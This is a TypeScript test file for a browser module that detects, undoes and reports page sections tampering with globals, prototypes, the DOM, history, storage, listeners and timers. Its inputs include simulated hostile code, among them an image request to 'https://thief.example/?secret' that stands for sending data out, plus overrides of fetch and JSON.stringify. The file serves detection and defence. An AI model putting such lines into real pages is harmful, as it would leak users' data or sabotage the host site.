import { afterEach, beforeEach, expect, test, vi } from 'vitest';
import { folderOf } from '../sheets';
import { plannedSection } from '../testing';
import { Trespass } from './trespass';

const section = plannedSection('1.1.0');
const other = { ...plannedSection('1.2.0'), id: 'slashes' };
const plan = { revision: 1, host: { id: 'a', live: 'a' }, sections: [section, other], refused: [] };
const file = `${folderOf(section)}assets/page.js`;
const { stringify } = JSON;

let shown: Set<unknown>;
let told: string[];
let renew: ReturnType<typeof vi.fn<() => void>>;
let trespass: Trespass;
/** Text of the section's script, as the browser still has it. */
let script: string;

beforeEach(async () => {
  document.body.innerHTML = '<div id="root"><header></header><main></main><footer></footer></div>';
  shown = new Set([section]);
  told = [];
  renew = vi.fn();
  vi.spyOn(performance, 'getEntriesByType').mockReturnValue([{ name: file } as PerformanceEntry]);
  vi.stubGlobal('fetch', async () => new Response(script));
  // The test environment has a separate EventTarget beside that of its elements.
  vi.stubGlobal('EventTarget', Object.getPrototypeOf(Node.prototype).constructor);
  trespass = new Trespass({
    plan: () => plan,
    isShown: (release) => shown.has(release),
    tell: ({ id, version }) => told.push(`${id} ${version}`),
    renew,
  });
  await trespass.watch();
});
afterEach(() => {
  trespass.dispose();
  vi.restoreAllMocks();
  vi.unstubAllGlobals();
  document.head.replaceChildren();
  for (const { name } of document.documentElement.attributes) document.documentElement.removeAttribute(name);
  delete (Array.prototype as { last?: unknown }).last;
  Object.assign(JSON, { stringify });
});

const HOST_FILE = 'https://site.example/assets/main.js';
/** Runs global code as a script at that address does: a stack names it by this comment. */
// biome-ignore lint/security/noGlobalEval: nothing else gives code the address of a script.
const runAs = (code: string, address: string): unknown => globalThis.eval(`${code}\n//# sourceURL=${address}`);

/** Runs code as if it were in the section's script. */
function inSection(code: string): unknown {
  script = code;
  return runAs(code, file);
}
const leave = () => {
  shown.clear();
  trespass.left(section);
};

test.each([
  ['a function of the window', 'window.fetch = () => Promise.reject(new Error("mine"))', () => window.fetch],
  ['a member of JSON', 'JSON.stringify = () => "mine, all of it"', () => JSON.stringify],
  ['a member of a prototype', 'Promise.prototype.then = function () { return this; }', () => Promise.prototype.then],
  [
    'a method for all arrays',
    'Array.prototype.last = function () { return this.at(-1); }',
    () => Reflect.get([], 'last'),
  ],
  [
    'a getter',
    'Object.defineProperty(Element.prototype, "id", { get() { return "mine"; }, configurable: true })',
    () => Object.getOwnPropertyDescriptor(Element.prototype, 'id')?.get,
  ],
  ['a method of one object', 'history.pushState = function () { throw new Error("mine"); }', () => history.pushState],
])('%s is restored at once after a section replaced it, and the section is named', async (_what, code, read) => {
  const before = read();
  inSection(code);
  expect(read()).not.toBe(before);
  trespass.check();
  expect(read()).toBe(before);
  await expect.poll(() => told).toEqual(['reviews 1.1.0']);
  expect(renew).not.toHaveBeenCalled();
});

test("an extension's replacement stays, is attributed to no section, and is examined once", async () => {
  script = 'something of the section';
  const wrapped = () => Promise.resolve(new Response('by an extension'));
  window.fetch = wrapped;
  const asked = vi.spyOn(performance, 'getEntriesByType');
  trespass.check();
  await expect.poll(() => window.fetch).toBe(wrapped);
  const times = asked.mock.calls.length;
  trespass.check();
  expect([window.fetch, asked.mock.calls.length, told]).toEqual([wrapped, times, []]);
});

test('a replaced value that is not code is restored too, though no section can be named', async () => {
  Object.assign(JSON, { stringify: null });
  trespass.check();
  expect(JSON.stringify({ a: 1 })).toBe('{"a":1}');
  expect(told).toEqual([]);
});

test('a replacement that cannot be undone brings a new document', () => {
  Object.defineProperty(Map.prototype, 'mine', { value: () => 'nobody can take it away', configurable: false });
  trespass.check();
  expect(renew).toHaveBeenCalledTimes(1);
});

test.each([
  ['styles of the document', () => document.documentElement.setAttribute('style', 'filter: invert(1)')],
  ['a class of the body', () => document.body.setAttribute('class', 'mine')],
  ['the shell hidden', () => document.querySelector('header')?.setAttribute('hidden', '')],
  ['something over the page', () => document.body.append(document.createElement('div'))],
  ['styles for every page', () => document.head.append(document.createElement('style'))],
  ['something in the shell', () => document.querySelector('#root')?.prepend(document.createElement('div'))],
  ['the header taken away', () => document.querySelector('header')?.remove()],
  ['everything taken away', () => document.body.replaceChildren()],
])('%s: undone when the section has left, and reported', (_what, harm) => {
  const before = document.documentElement.outerHTML;
  trespass.begin(section);
  harm();
  trespass.end();
  expect(document.documentElement.outerHTML).not.toBe(before);
  trespass.left(section);
  expect(told).toEqual([]);
  leave();
  expect(document.documentElement.outerHTML).toBe(before);
  expect(told).toEqual(['reviews 1.1.0']);
});

test('the effects of a preloaded module are undone at once', () => {
  shown.clear();
  const before = document.documentElement.outerHTML;
  const module = trespass.run(section, () => {
    document.body.append('', document.createElement('div'));
    return 'module';
  });
  expect([module, document.documentElement.outerHTML, told]).toEqual(['module', before, ['reviews 1.1.0']]);
});

test('what a section cleans up itself, and what happens while none of its code runs, is no harm', async () => {
  trespass.begin(section);
  const dialog = document.body.appendChild(document.createElement('div'));
  document.body.setAttribute('data-scroll-locked', '1');
  trespass.end();
  dialog.remove();
  document.body.removeAttribute('data-scroll-locked');
  // A translator, a toast, a theme.
  document.documentElement.setAttribute('lang', 'de');
  document.body.append(document.createElement('div'));
  leave();
  expect([told, document.documentElement.lang, document.body.children.length]).toEqual([[], 'de', 2]);
});

test('a widget inside a page is held responsible separately', () => {
  const body = document.body;
  trespass.begin(section);
  body.setAttribute('data-page', '');
  trespass.begin(other);
  body.setAttribute('data-widget', '');
  trespass.end();
  body.setAttribute('data-page', 'again');
  trespass.end();
  shown = new Set([section]);
  trespass.left(other);
  expect([told, body.hasAttribute('data-widget'), body.dataset.page]).toEqual([['slashes 1.2.0'], false, 'again']);
});

test('an effect that throws leaves no window open', async () => {
  trespass.begin(section);
  await Promise.resolve();
  document.body.setAttribute('data-later', '');
  trespass.begin(other);
  trespass.end();
  leave();
  expect([told, document.body.hasAttribute('data-later')]).toEqual([[], true]);
});

test.each(['history.pushState(null, "", "/mine")', 'history.replaceState(null, "", "/mine")', 'localStorage.clear()'])(
  '%s is left out when a section calls it, and done when anybody else does',
  (call) => {
    localStorage.setItem('companion.theirs', 'kept');
    const before = location.href;
    inSection(call);
    expect([location.href, localStorage.getItem('companion.theirs')]).toEqual([before, 'kept']);
    expect(told).toEqual(['reviews 1.1.0']);
    runAs(call, HOST_FILE);
    expect(location.pathname === '/mine' || localStorage.getItem('companion.theirs') === null).toBe(true);
    history.replaceState(null, '', before);
    expect(told).toHaveLength(1);
  },
);

test('a host call on behalf of a section is attributed to the host', () => {
  const push = runAs('() => history.replaceState(null, "", "#there")', HOST_FILE);
  Object.assign(window, { push });
  inSection('push()');
  expect([location.hash, told]).toEqual(['#there', []]);
});

test('a listener for all clicks is removed with the section that left it behind', () => {
  const clicked = () => document.body.click();
  const seen = vi.fn();
  Object.assign(window, { seen });
  inSection('document.addEventListener("click", seen, true)');
  clicked();
  expect(seen).toHaveBeenCalledTimes(1);
  leave();
  clicked();
  expect([seen.mock.calls.length, told]).toEqual([1, ['reviews 1.1.0']]);
});

test("a section's timer is responsible for its effects, and a continuing one pauses while the section is away", async () => {
  trespass.dispose();
  vi.useFakeTimers();
  trespass = new Trespass({
    plan: () => plan,
    isShown: (release) => shown.has(release),
    tell: ({ id }) => told.push(id),
    renew,
  });
  await trespass.watch();
  Object.assign(window, { turns: [] });
  inSection(`setInterval((name) => { turns.push(name); document.body.className = 'mine'; }, 100, 'interval')`);
  inSection(`setTimeout((name) => { turns.push(name); document.body.title = 'mine'; }, 250, 'timeout')`);
  setInterval(() => document.body.setAttribute('data-theirs', ''), 100);
  vi.advanceTimersByTime(120);
  expect([document.body.className, told]).toEqual(['mine', []]);
  leave();
  expect([document.body.className, told]).toEqual(['', ['reviews']]);
  vi.advanceTimersByTime(1_000);
  expect([Reflect.get(window, 'turns'), document.body.className, document.body.title]).toEqual([
    ['interval', 'timeout'],
    '',
    '',
  ]);
  expect(document.body.hasAttribute('data-theirs')).toBe(true);
  vi.useRealTimers();
});

test('listeners that a section removes itself, uses once, or needs to follow the page are no harm', () => {
  Object.assign(window, { heard: () => {} });
  inSection(`document.addEventListener('click', heard); document.removeEventListener('click', heard);
    document.addEventListener('keydown', heard, true); document.removeEventListener('keydown', heard, { capture: true });
    document.addEventListener('pointerdown', heard, { once: true }); document.addEventListener('storage', heard);
    document.addEventListener('visibilitychange', heard); document.querySelector('main').addEventListener('click', heard);`);
  leave();
  expect(told).toEqual([]);
});

test('what the first page did before the watch was loaded is undone too', async () => {
  trespass.dispose();
  const before = document.documentElement.outerHTML;
  trespass = new Trespass({
    plan: () => plan,
    isShown: (release) => shown.has(release),
    tell: ({ id }) => told.push(id),
    renew,
  });
  trespass.begin(section);
  document.body.append(document.createElement('div'));
  trespass.end();
  shown.clear();
  trespass.left(section);
  expect(told).toEqual([]);
  await trespass.watch();
  expect([document.documentElement.outerHTML, told]).toEqual([before, ['reviews']]);
});

test('a request that the policy blocked is reported once, for the file that made it', () => {
  const refuse = (sourceFile: string) =>
    dispatchEvent(Object.assign(new Event('securitypolicyviolation'), { sourceFile }));
  refuse(file);
  refuse(file);
  refuse('chrome-extension://abc/content.js');
  refuse('');
  expect(told).toEqual(['reviews 1.1.0']);
});

test('a picture from another site is reported for the section whose code requests it', () => {
  inSection(
    'new Image().src = "https://"; new Image().src = "/own.png"; new Image().src = "data:image/png;base64,AAAA"',
  );
  runAs('new Image().src = "https://pictures.example/a.png"', HOST_FILE);
  expect(told).toEqual([]);
  inSection('new Image().src = "https://thief.example/?secret"');
  expect(told).toEqual(['reviews 1.1.0']);
});
